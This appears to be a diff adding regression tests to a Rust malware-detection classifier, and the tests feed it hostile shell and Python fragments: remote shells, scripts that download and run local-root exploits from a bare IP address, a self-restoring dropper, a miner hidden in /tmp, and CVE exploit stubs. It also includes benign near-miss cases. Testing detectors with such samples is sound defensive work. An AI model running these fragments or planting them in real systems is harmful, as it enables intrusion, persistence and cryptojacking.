@@ -223,6 +223,14 @@ fn what_the_held_out_scripts_taught_is_found() {
     let bind = "import socket, os\ns = socket.socket()\ns.bind(('', 4000))\ns.listen(1)\nc, a = s.accept()\n\
                 while True:\n    cmd = c.recv(1024).decode()\n    c.send(os.popen(cmd).read().encode())\n";
     assert_eq!(whys(bind), [Why::RemoteShell]);
+    // Regression: fresh127's `shell.py` hands what it receives to a function of its own that
+    // runs it; a client that hands it to a logger runs nothing.
+    let through = "import socket, os\ndef ExecuteCommand(command):\n        output = os.popen(command).read()\n        return output\n\
+                   s = socket.socket()\ns.connect((host, port))\nwhile True:\n    data = s.recv(1024).decode()\n\
+                       output = ExecuteCommand(str(data))\n    s.send(output.encode())\n";
+    assert_eq!(whys(through), [Why::RemoteShell]);
+    let logged = through.replace("output = ExecuteCommand(str(data))", "output = log_line(str(data))");
+    assert_eq!(whys(&logged), []);
     // A renamed miner given a pool and a Monero wallet.
     let wallet = format!("#!/bin/sh\n./job -o pool.example:443 -u 4{} -p x -k &\n", "A".repeat(94));
     assert_eq!(whys(&wallet), [Why::StartsProgram]);
@@ -432,6 +440,53 @@ fn a_miners_wallet_hidden_addresses_and_a_tor_loader_are_found() {
     let decoded = "#!/bin/bash\nname=$(echo aGVsbG8gd29ybGQgZnJvbSBoZXJl | base64 -d)\ncurl -s https://api.example/ -d \"$name\"\n";
     let donation = format!("#!/bin/sh\n# Donations welcome: {wallet}\necho done\n");
     assert!(whys(decoded).is_empty() && whys(&donation).is_empty(), "{:?} {:?}", whys(decoded), whys(&donation));
+}
+
+#[test]
+fn intruders_tools_downloaded_and_started_are_found() {
+    // Regression: fresh127's `net.sh` installs `gs-netcat` from an address kept in a variable.
+    let gs = "#!/bin/bash\nREPO_URL=\"https://github.com/hackerschoice/gsocket\"\n\
+              wget -q \"$REPO_URL/releases/download/v1.4.43/gs-netcat_linux-x86_64\" -O /usr/local/bin/gs-netcat\n";
+    assert_eq!(whys(gs), [Why::DownloadsProgram]);
+    // Its `auto` downloads local-root exploits from a bare address and runs each one.
+    let auto = "#!/bin/bash\nfor c in \"${cve[@]}\"; do\n  wget -q --no-check-certificate http://64.227.152.176/localroot/$c\n\
+                chmod 0755 $c\n  ./$c\ndone\n";
+    assert_eq!(whys(auto), [Why::DownloadsProgram]);
+    // Its `guardian` downloads its partner again whenever it is deleted.
+    let guardian = "#!/bin/bash\nwhile true; do\n  if [ ! -f \"$p\" ]; then\n    wget \"http://$ip/check\" -O \"$p\"\n\
+                    chmod +x \"$p\"\n  fi\ndone\n";
+    assert_eq!(whys(guardian), [Why::DownloadsProgram]);
+    // Its `a.sh` unpacks a miner into a hidden temporary folder.
+    let miner = "if [ ! -d xig ]; then\n  wget -q https://example.org/xig.tar.gz -O - | tar zxf - -C /tmp/.ICE-unix\n\
+                 cd /tmp/.ICE-unix/xig\n  ./xig\nfi\n";
+    assert_eq!(whys(&format!("#!/bin/sh\n{miner}")), [Why::DownloadsProgram]);
+    // Near misses: a health check of a bare address, a loop that only polls a page, and an
+    // archive unpacked into a visible folder.
+    let health = "#!/bin/sh\ncurl -s http://10.0.0.5/health && chmod 644 status.txt\n";
+    assert_eq!(whys(health), []);
+    let poll = "#!/bin/sh\nwhile true; do\n  curl -s https://example.org/cron.php\n  sleep 60\ndone\n";
+    assert_eq!(whys(poll), []);
+    let visible = "#!/bin/sh\nwget -q https://example.org/app.tar.gz -O - | tar zxf - -C /tmp/app\n";
+    assert_eq!(whys(visible), []);
+}
+
+#[test]
+fn local_root_exploits_are_found() {
+    // Regression: fresh127's exploit kit: a SUID binary's hole, screen's preload trick, the
+    // sudo heap overflow.
+    let suid = "#!/bin/bash\necho \"CVE-2022-37706\"\nfile=$(find / -name enlightenment_sys -perm -4000 2>/dev/null | head -1)\n\
+                echo \"[+] Trying to pop a root shell!\"\n";
+    assert_eq!(whys(suid), [Why::LocalRootExploit]);
+    let preload = "#!/bin/bash\n# setuid screen v4.5.0 local root exploit\ncd /etc\numask 000\nscreen -D -m -L ld.so.preload echo -ne \"\\x0a/tmp/libhax.so\"\n\
+                   echo \"[+] Triggering...\"\ncat /etc/ld.so.preload\n";
+    assert_eq!(whys(preload), [Why::LocalRootExploit]);
+    let sudo = "#!/usr/bin/python3\n'''\nExploit for CVE-2021-3156 with overwrite struct service_user\n'''\nimport os\nSUDO_PATH = b\"/usr/bin/sudo\"\n";
+    assert_eq!(whys(sudo), [Why::LocalRootExploit]);
+    // A site's deploy script using sudo, and a scanner's note on a CVE it has no hole for.
+    let deploy = "#!/bin/sh\n/usr/bin/sudo systemctl reload php-fpm\n";
+    assert_eq!(whys(deploy), []);
+    let note = "#!/bin/sh\n# Fixed CVE-2021-44228 in the logger\ncomposer update monolog/monolog\n";
+    assert_eq!(whys(note), []);
 }
 
 #[test]
